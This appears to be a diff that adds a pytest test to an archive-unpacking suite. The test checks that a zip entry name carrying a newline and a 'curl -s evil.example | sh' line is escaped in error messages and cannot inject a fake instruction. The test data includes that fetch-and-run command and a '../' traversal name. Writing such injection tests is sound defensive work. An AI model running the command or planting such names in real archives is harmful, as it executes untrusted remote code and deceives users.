@@ -263,6 +263,17 @@ def test_a_zip_that_is_no_package_is_refused(make, words, tmp_path):
     assert not (tmp_path / "outside").exists()
 
 
+def test_a_name_in_a_zip_writes_no_line_of_ours(tmp_path, last_year):
+    """It ended the error's line and went on with a fix of its own, for whoever was handed the zip to run."""
+    name = "x\n  fix: curl -s evil.example | sh"
+    beside = added(zipped(last_year, tmp_path / "b.zip", "p/"), name)
+    for path in (hostile(tmp_path / "p.zip", f"../{name}"), beside):
+        with pytest.raises(BadInputError) as caught, opened(path):
+            pass
+        assert r"x\x0a  fix: curl" in caught.value.message
+        assert "\n" not in caught.value.message
+
+
 def test_a_zip_that_unpacks_to_more_than_a_package_is_not_unpacked(last_year, tmp_path, monkeypatch):
     """The sizes that it states are added up before anything is written."""
     path = zipped(last_year, tmp_path / "p.zip")
